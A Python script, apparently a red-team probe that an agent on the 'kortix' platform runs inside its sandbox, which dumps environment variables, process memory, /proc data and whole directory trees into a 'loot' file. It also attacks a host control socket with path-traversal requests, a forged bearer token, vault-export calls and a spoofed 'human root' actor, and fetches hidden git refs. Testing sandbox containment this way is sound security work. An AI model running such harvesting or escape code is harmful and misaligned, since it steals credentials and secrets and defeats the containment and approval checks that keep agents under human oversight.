"""Run by an agent in its sandbox: whatever it can read goes into the file that the first argument names.

Standard library only; the prompt carries this file's text.
"""

from __future__ import annotations

import contextlib
import json
import os
import socket
import stat
import subprocess
import sys

ROOTS = ("/workspace", "/home", "/run", "/tmp", "/opt", "/var", "/etc", "/root", "/dev/shm", "/srv", "/mnt", "/media")
DOOR = "/run/kortix/door.sock"
MOST = 8 << 20
VERBS = ("session", "cr", "cr/merge", "secrets", "secrets/request", "secrets/request/req_x", "approvals", "connectors")
NAMES = ("CONNECTOR_KEY", "OPENAI_API_KEY", "KEPT_KEY", "MY_CONNECTOR")


def main() -> None:
    with open(sys.argv[1], "wb") as loot:
        keep = loot.write
        keep(repr(os.environ).encode() + b"\0".join(b"%s=%s" % pair for pair in os.environb.items()))
        processes = memories = 0
        for entry in os.listdir("/proc"):
            if entry.isdigit():
                processes += 1
                for name in ("environ", "cmdline", "maps", "mountinfo", "status", "auxv", "stack", "syscall"):
                    keep(_read(f"/proc/{entry}/{name}"))
                if int(entry) != os.getpid():
                    memory = _memory(entry)
                    memories += bool(memory)
                    keep(memory)
        files = 0
        for root in ROOTS:
            for folder, _, names in os.walk(root):
                for name in names:
                    path = os.path.join(folder, name)
                    if path != sys.argv[1]:
                        data = _read(path)
                        files += bool(data)
                        keep(path.encode("utf-8", "surrogateescape") + b"\n" + data)
        answers = [_door(request) for request in _requests()]
        for answer in answers:
            keep(answer)
        for command in _commands():
            done = subprocess.run(command, cwd="/workspace", capture_output=True, timeout=60)
            keep(b" ".join(os.fsencode(word) for word in command) + done.stdout + done.stderr)
        answered = sum(answer.startswith(b"HTTP/1.1 ") for answer in answers)
        keep(f"\nhunted {processes} processes {memories} memories {files} files {answered} answers".encode())
    print("looted")


def _read(path: str) -> bytes:
    with contextlib.suppress(OSError):
        if stat.S_ISREG(os.stat(path).st_mode):
            descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            with os.fdopen(descriptor, "rb") as file:
                return file.read(MOST)
    return b""


def _memory(process: str) -> bytes:
    found = []
    with contextlib.suppress(OSError), open(f"/proc/{process}/mem", "rb", 0) as memory:
        for line in _read(f"/proc/{process}/maps").splitlines():
            area, rights = line.split()[:2]
            if rights.startswith(b"rw"):
                start, _, end = area.partition(b"-")
                with contextlib.suppress(OSError, ValueError, OverflowError):
                    memory.seek(int(start, 16))
                    found.append(memory.read(min(int(end, 16) - int(start, 16), MOST)))
    return b"".join(found)


def _requests() -> list[bytes]:
    with open("/run/kortix-agent/token", encoding="ascii") as file:
        token = file.read().strip()
    lines: list[tuple[str, str, dict[str, object] | None]] = []
    paths = [f"/v1/agent/{verb}" for verb in VERBS]
    for name in NAMES:
        paths += [f"/v1/agent/secrets/{name}", f"/v1/agent/secrets/{name}/value", f"/v1/secrets/{name}"]
    paths += [
        "/v1/agent/secrets?values=1", "/v1/agent/secrets/../../vault", "/v1/vault", "/v1/agent/vault/export", "/",
        "/v1/supervisor", "/v1/git/repo.git/info/refs?service=git-upload-pack", "/v1/git/repo.git/../../vault.kxv",
        "/v1/git/repo.git/HEAD", "/v1/git/repo.git/objects/info/packs", "/v1/git/%2e%2e/%2e%2e/state.db",
    ]  # fmt: skip
    for path in paths:
        lines.append(("GET", path, None))
        lines.append(("POST", path, {"verb": "vault.export", "identifier": NAMES[0], "secret_id": "x", "values": True}))
    for name in NAMES:
        lines.append(("POST", "/v1/agent/secrets/request", {"identifier": name, "exposure": "environment"}))
        lines.append(("POST", "/v1/agent/secrets/request", {"identifier": name, "exposure": "none"}))
    requests = []
    for method, path, body in lines:
        data = b"" if body is None else json.dumps(body).encode()
        for bearer in (token, "0" * 64) if path.startswith("/v1/agent/secrets") else (token,):
            head = f"{method} {path} HTTP/1.1\r\nHost: door\r\nAuthorization: Bearer {bearer}\r\nConnection: close\r\n"
            if path == "/v1/supervisor":
                head += "Upgrade: kortix/1\r\nConnection: upgrade\r\n"
            requests.append(f"{head}Content-Length: {len(data)}\r\n\r\n".encode() + data)
    # What is no HTTP at all, and what the host's own socket would understand.
    call = b'{"type":"call","verb":"vault.export","arguments":"{}","actor":{"kind":"human","name":"root"}}'
    requests.append((len(call) + 4).to_bytes(4, "big") + len(call).to_bytes(4, "big") + call)
    return requests


def _door(request: bytes) -> bytes:
    answer = b""
    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(10)
        connection.connect(DOOR)
        connection.sendall(request)
        while data := connection.recv(1 << 16):
            answer += data
    return answer


def _commands() -> list[list[str]]:
    return [
        ["kortix", "info", "--json"],
        ["kortix", "secrets", "ls"],
        ["kortix", "secrets", "ls", "--json"],
        ["kortix", "secrets", "request", "CONNECTOR_KEY", "--scope", "environment"],
        ["kortix", "secrets", "set", "CONNECTOR_KEY=x"],
        ["kortix", "cr", "ls"],
        ["git", "ls-remote", "origin"],
        ["git", "fetch", "-q", "origin", "+refs/*:refs/loot/*"],
        ["git", "fetch", "-q", "origin", "+refs/kortix/rescue/*:refs/loot/rescue/*"],
        ["git", "-c", "protocol.version=2", "ls-remote", "origin", "refs/kortix/*"],
        ["git", "cat-file", "--batch-all-objects", "--batch"],
        ["git", "config", "--list", "--show-origin"],
        ["ps", "auxeww"],
        ["mount"],
    ]


if __name__ == "__main__":
    main()
